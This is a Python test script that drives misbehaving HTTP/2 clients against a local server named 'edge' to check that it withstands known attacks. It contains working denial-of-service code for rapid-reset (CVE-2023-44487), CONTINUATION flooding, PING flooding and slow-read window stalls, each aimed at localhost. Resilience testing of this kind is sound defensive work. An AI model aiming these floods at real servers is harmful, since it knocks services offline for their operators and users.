#!/usr/bin/python3
"""HTTP/2 clients that misbehave, for edge's integration tests (Debian python3-h2).

usage: h2_hostile.py MODE PORT SNI CAFILE
  rapid-reset   open and reset 500 streams at once (CVE-2023-44487)
  continuation  one HEADERS and CONTINUATION frames without end (the 2024 flood)
  ping-flood    PING frames without end, never reading the answers
  slow-read PATH  a 1 KiB window it never opens further; reads for up to 10 s: prints
                "got N open" or "got N closed" (edge closed the stalled connection)
  slow-many PATH N  N streams for PATH, each with a 1 KiB window never opened further;
                after 2 s prints "stalled N BYTES" (bytes received) and holds the
                connection until killed
Prints what edge did: "goaway CODE" (the error code of its GOAWAY), "closed", or for
slow-read "got N".
"""
import socket, ssl, sys, time
import h2.connection, h2.config, h2.events
from hyperframe.frame import HeadersFrame, ContinuationFrame, PingFrame, GoAwayFrame, Frame

mode, port, sni, ca = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
ctx = ssl.create_default_context(cafile=ca)
ctx.set_alpn_protocols(["h2"])
raw = socket.create_connection(("127.0.0.1", port), timeout=10)
s = ctx.wrap_socket(raw, server_hostname=sni)
assert s.selected_alpn_protocol() == "h2", s.selected_alpn_protocol()
conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
conn.initiate_connection()
s.sendall(conn.data_to_send())
req = [(":method", "GET"), (":scheme", "https"), (":authority", sni), (":path", "/echo")]

def goaway_code():
    """Reads until edge's GOAWAY or the close; returns the code or None."""
    buf = b""
    s.settimeout(10)
    while True:
        try:
            d = s.recv(65536)
        except (ConnectionResetError, ssl.SSLError, socket.timeout):
            return None
        if not d:
            return None
        buf += d
        while len(buf) >= 9:
            n = int.from_bytes(buf[0:3], "big")
            if len(buf) < 9 + n:
                break
            if buf[3] == 0x7:
                return int.from_bytes(buf[9 + 4:9 + 8], "big")
            buf = buf[9 + n:]

def send_all(data):
    try:
        s.sendall(data)
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError):
        pass

if mode == "rapid-reset":
    out = b""
    for i in range(500):
        sid = 2 * i + 1
        conn.send_headers(sid, req, end_stream=True)
        conn.reset_stream(sid)
    send_all(conn.data_to_send())
elif mode == "continuation":
    block = conn.encoder.encode(req)
    f = HeadersFrame(1); f.data = block; f.flags = set()
    send_all(f.serialize())
    for _ in range(200):
        c = ContinuationFrame(1); c.data = b"\x40\x01a\x01b" * 3000; c.flags = set()
        send_all(c.serialize())
elif mode == "ping-flood":
    for i in range(5000):
        p = PingFrame(0); p.opaque_data = i.to_bytes(8, "big")
        send_all(p.serialize())
elif mode in ("slow-read", "slow-many"):
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1024})
    n = int(sys.argv[6]) if mode == "slow-many" else 1
    for _ in range(n):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, [(":method", "GET"), (":scheme", "https"), (":authority", sni), (":path", sys.argv[5])], end_stream=True)
    s.sendall(conn.data_to_send())
    got, deadline, state = 0, time.time() + (10 if mode == "slow-read" else 2), "open"
    s.settimeout(0.2)
    while time.time() < deadline:
        try:
            d = s.recv(65536)
        except socket.timeout:
            continue
        except (ConnectionResetError, ssl.SSLError):
            state = "closed"; break
        if not d:
            state = "closed"; break
        for e in conn.receive_data(d):
            if isinstance(e, h2.events.DataReceived):
                got += len(e.data)   # never acknowledged: the windows stay shut
        s.sendall(conn.data_to_send())
    if mode == "slow-read":
        print("got", got, state)
        sys.exit(0)
    print("stalled", n, got, flush=True)
    time.sleep(120)
    sys.exit(0)
code = goaway_code()
print("closed" if code is None else "goaway %d" % code)
